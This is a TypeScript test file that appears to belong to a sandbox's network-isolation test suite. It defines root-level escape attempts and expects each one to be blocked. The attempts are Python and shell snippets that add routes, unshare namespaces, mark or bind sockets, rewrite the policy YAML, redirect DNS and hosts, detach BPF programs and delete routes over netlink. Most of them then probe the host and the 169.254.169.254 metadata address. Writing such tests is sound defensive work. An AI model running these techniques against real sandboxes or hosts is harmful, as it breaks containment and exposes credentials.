import type { Attack } from './attack.ts';
import { python } from './datagrams.ts';

/** Tries the canary once more, after what was done to the guest. */
const KNOCK = `
import socket
def knock(host):
    family = socket.AF_INET6 if ':' in host else socket.AF_INET
    s = socket.socket(family); s.settimeout(4)
    try:
        s.connect((host, PORT)); s.send(b'GET / HTTP/1.0\\r\\n\\r\\n')
        got = b''
        while part := s.recv(4096): got += part
        print('got', got)
    except OSError as error: print(type(error).__name__, error.errno)
`;

interface Root {
  readonly name: string;
  readonly code: string;
  readonly sees?: RegExp;
}

/** Python as root that changes the guest, then knocks at this host. */
function asRoot({ name, code, sees = /Error|private_address/ }: Root): Attack {
  return {
    name,
    line: ({ canaries: { port }, hostAddress }) =>
      python(
        `PORT = ${port}\nHOST = '${hostAddress}'\n${KNOCK}\n${code.trim()}\nknock(HOST)\nknock('169.254.169.254')`,
      ),
    sees,
    seesNot: /CANARY/,
  };
}

export const ROOT_ATTACKS: readonly Attack[] = [
  asRoot({
    name: 'an address of the host for the loopback device of its own',
    code: `
import fcntl, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
request = struct.pack('16sH2s4s8s', b'lo:7', socket.AF_INET, b'', socket.inet_aton('172.31.0.9'), b'')
try: print('set', fcntl.ioctl(s, 0x8916, request)[:4])
except OSError as error: print(type(error).__name__, error.errno)`,
  }),
  asRoot({
    name: 'a route of its own through a gateway',
    code: `
import fcntl, struct
def address(text): return struct.pack('HH4s8x', socket.AF_INET, 0, socket.inet_aton(text))
entry = struct.pack('L', 0) + address('0.0.0.0') + address('10.0.2.15') + address('0.0.0.0') + struct.pack('HhLPHHPLLH', 3, 0, 0, 0, 0, 0, 0, 0, 0, 0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: fcntl.ioctl(s, 0x890B, entry + bytes(64)); print('added')
except OSError as error: print(type(error).__name__, error.errno)`,
  }),
  asRoot({
    name: 'a namespace of its own with a veth pair',
    code: `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print('unshare', libc.unshare(0x40000000))`,
  }),
  asRoot({
    name: 'IP_TRANSPARENT and SO_MARK, around the routes',
    code: `
real = socket.socket
def marked(family, *rest):
    s = real(family, *rest)
    for level, name in ((socket.SOL_SOCKET, 36), (socket.SOL_IP, 19), (socket.SOL_IP, 15)):
        try: s.setsockopt(level, name, 77)
        except OSError as error: print(type(error).__name__, error.errno)
    return s
socket.socket = marked`,
  }),
  asRoot({
    name: 'a socket bound to a device',
    code: `
real = socket.socket
def bound(family, *rest):
    s = real(family, *rest); s.setsockopt(socket.SOL_SOCKET, 25, b'lo'); return s
socket.socket = bound`,
  }),
  {
    name: 'gondolin.yaml of the shared directory, rewritten to open everything',
    line: ({ canaries: { port }, hostAddress }) =>
      `printf 'network: { mode: open, block_private_ips: false }\\n' > /workspace/gondolin.yaml; curl -sS -g -m 6 http://${hostAddress}:${port}/; curl -sS -m 6 https://denied.test/`,
    sees: /reason: private_address[\s\S]*reason: not_allowed/,
  },
  {
    name: 'variables that name a proxy, /etc/hosts and resolv.conf of its own',
    line: ({ canaries: { port }, hostAddress }) =>
      `unshare -m bash -c 'cp /etc/resolv.conf /tmp/r; echo nameserver ${hostAddress} > /tmp/r; mount --bind /tmp/r /etc/resolv.conf; echo "${hostAddress} api.test" > /tmp/h; mount --bind /tmp/h /etc/hosts; http_proxy=http://${hostAddress}:${port} curl -sS -m 6 http://denied.test/; curl -sS -m 6 -k https://api.test:${port}/'; true`,
    sees: /name_mismatch[\s\S]*curl: \(\d+\)/,
  },
];

/** Ends the guest's network: the last of all. */
export const LAST_ATTACKS: readonly Attack[] = [
  {
    name: 'the BPF programs of the capture, detached by root',
    line: ({ canaries: { port }, hostAddress }) =>
      python(`
PORT = ${port}
${KNOCK}
import ctypes, struct, os
libc = ctypes.CDLL(None, use_errno=True)
def bpf(command, attributes):
    room = ctypes.create_string_buffer(attributes, 128)
    result = libc.syscall(321, command, room, 128)
    return result, room.raw
ids, last = [], 0
while True:
    result, room = bpf(31, struct.pack('II', last, 0))
    if result != 0: break
    last = struct.unpack('I', room[4:8])[0]; ids.append(last)
print('links', len(ids))
for number in ids:
    fd, _ = bpf(30, struct.pack('I', number))
    print('detach', bpf(34, struct.pack('I', fd))[0] if fd >= 0 else fd)
knock('${hostAddress}'); knock('127.0.0.1')`),
    sees: /links [1-9]/,
    seesNot: /CANARY/,
  },
  {
    name: 'the routes of the capture, deleted by root',
    line: ({ canaries: { port }, hostAddress }) =>
      python(`
PORT = ${port}
${KNOCK}
import struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0)); s.settimeout(2)
def ask(kind, flags, body):
    s.send(struct.pack('IHHII', 16 + len(body), kind, flags, 1, 0) + body)
    return s.recv(65536)
gone = 0
for family in (2, 10):
    data = ask(26, 0x301, struct.pack('BBBBBBBBI', family, 0, 0, 0, 0, 0, 0, 0, 0))
    at = 0
    while at + 16 <= len(data):
        length, kind = struct.unpack('IH', data[at:at + 6])
        if kind == 24:
            answer = ask(25, 5, data[at + 16:at + length])
            gone += struct.unpack('i', answer[16:20])[0] == 0
        at += (length + 3) & ~3
print('deleted', gone)
knock('${hostAddress}')`),
    sees: /deleted \d+\n\w*Error/,
    seesNot: /CANARY/,
  },
];
